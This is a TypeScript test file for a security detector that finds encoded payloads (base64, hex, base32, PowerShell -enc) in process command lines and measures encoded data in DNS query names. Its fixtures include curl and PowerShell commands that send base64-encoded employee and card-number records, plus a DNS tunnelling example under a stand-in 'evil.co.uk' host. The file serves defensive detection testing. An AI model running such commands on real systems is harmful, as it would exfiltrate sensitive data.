import { expect } from 'chai';

import { DecodedPayload } from '../../src/enrichment/decoded-payload.ts';
import { dnsPayload } from '../../src/enrichment/dns-payload.ts';
import { encodedRuns } from '../../src/enrichment/encoded-runs.ts';
import { unwrapLines } from '../../src/enrichment/wrapped-lines.ts';
import { event, policy } from './events.ts';

const text =
  'employee;team;grade;card\nE1042;Legal;7;4111111111111111\nE3318;Sales;4;4012888888881881\nE2207;Design;5\n';
const bytes = Buffer.from(text);
const base64 = bytes.toString('base64').replaceAll('=', '');
const wide = Buffer.from(text, 'utf16le').toString('base64').replaceAll('=', '');
const gzip = Buffer.concat([Buffer.from('1f8b0800', 'hex'), noise(200)]).toString('base64');
const url = noise(160).toString('base64url');

// Bytes without a pattern, always the same.
function noise(length: number): Buffer {
  let state = 1;
  return Buffer.from(
    Array.from({ length }, () => {
      state = (state * 48_271) % 2_147_483_647;
      return state & 0xff;
    }),
  );
}

function base32(data: Uint8Array): string {
  let bits = '';
  for (const byte of data) bits += byte.toString(2).padStart(8, '0');
  return (bits.match(/.{1,5}/g) ?? [])
    .map((five) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'.charAt(parseInt(five.padEnd(5, '0'), 2)))
    .join('');
}

describe('encoded data', () => {
  // [what, text, encodings]
  const table: readonly (readonly [string, string, readonly string[]])[] = [
    ['base64', `curl -d ${base64} x`, ['base64']],
    ['base64 of the alphabet for URLs', `curl x?${url}`, ['base64url']],
    ['hexadecimal', `curl -d ${bytes.toString('hex')}`, ['hex']],
    ['escaped hexadecimal', bytes.toString('hex').replaceAll(/(..)/g, '\\x$1'), ['hex']],
    ['base32', `curl -d ${base32(bytes)}`, ['base32']],
    ['a digest', `sha256:${'0a1b2c3d'.repeat(8)}`, []],
    ['zeros', '0'.repeat(300), []],
    ['a name in upper case', 'A_LONG_CONSTANT'.replaceAll('_', '').repeat(6), []],
    ['words', 'nothing to see here '.repeat(20), []],
  ];
  for (const [what, carrier, wanted] of table) {
    it(`${what}: ${wanted.join(', ') || 'none'}`, () => {
      expect(encodedRuns(carrier).map((run) => run.encoding)).to.deep.equal(wanted);
    });
  }

  it('is bounded in runs', () => {
    const many = `${bytes.toString('hex')} `.repeat(40);
    expect(encodedRuns(many)).to.have.lengthOf(16);
  });
});

describe('wrapped lines', () => {
  const wrap = (width: number, by: string): string =>
    (base64.match(new RegExp(`.{1,${String(width)}}`, 'g')) ?? []).join(by);
  for (const [width, by] of [
    [76, '\n'],
    [64, '\r\n'],
    [16, '\n'],
  ] as const) {
    it(`of ${String(width)} characters are one run`, () => {
      expect(unwrapLines(`x "${wrap(width, by)}"\necho done`)).to.equal(`x "${base64}"\necho done`);
    });
  }

  it('of scripts stay lines', () => {
    const script = 'cd /tmp\nls -la\nif true; then\n  echo x\nfi\n';
    expect(unwrapLines(script)).to.equal(script);
    expect(unwrapLines('one line')).to.equal('one line');
  });
});

describe('decoded payload', () => {
  const derived = (CommandLine: string): Record<string, unknown> => {
    const launch = event('process_creation', 0, undefined, { CommandLine });
    new DecodedPayload().derive(launch, policy);
    return Object.fromEntries(launch.derived);
  };

  it('of a text has the labels of what it says', () => {
    expect(derived(`curl -d ${base64} x`)).to.deep.equal({
      'tidegate.payload.encoded_bytes': Math.floor((base64.length * 3) / 4),
      'tidegate.payload.encoding': ['base64'],
      'tidegate.payload.content': ['text'],
      'tidegate.payload.labels': ['card_number'],
    });
    expect(derived(`x ${bytes.toString('hex')}`)).to.deep.include({
      'tidegate.payload.labels': ['card_number'],
    });
    expect(derived(`x ${base32(bytes)}`)).to.deep.include({
      'tidegate.payload.labels': ['card_number'],
    });
    expect(derived(`powershell -enc ${wide}`)).to.deep.include({
      'tidegate.payload.content': ['text'],
      'tidegate.payload.labels': ['card_number'],
    });
  });

  it('that was packed before is told by its first bytes', () => {
    expect(derived(`curl -d ${gzip} x`)['tidegate.payload.content']).to.deep.equal(['gzip']);
    expect(derived(`curl -d ${url} x`)['tidegate.payload.content']).to.deep.equal(['binary']);
  });

  it('is absent where nothing is encoded', () => {
    expect(derived('git status')).to.deep.equal({});
  });
});

describe('names as carriers', () => {
  const derived = (QueryName: string): Record<string, unknown> => {
    const lookup = event('dns_query', 0, undefined, { QueryName });
    dnsPayload.derive(lookup, policy);
    return Object.fromEntries(lookup.derived);
  };

  it('are measured below the domain that can be registered', () => {
    expect(derived('mzxw6ytboi.4tqmjs.evil.co.uk')).to.deep.equal({
      'tidegate.payload.dns_characters': 16,
      'tidegate.payload.dns_entropy': 3.75,
    });
    expect(derived('evil.co.uk')).to.deep.equal({});
    expect(derived('printer')).to.deep.equal({});
    expect(derived('x'.repeat(300))).to.deep.equal({});
  });
});
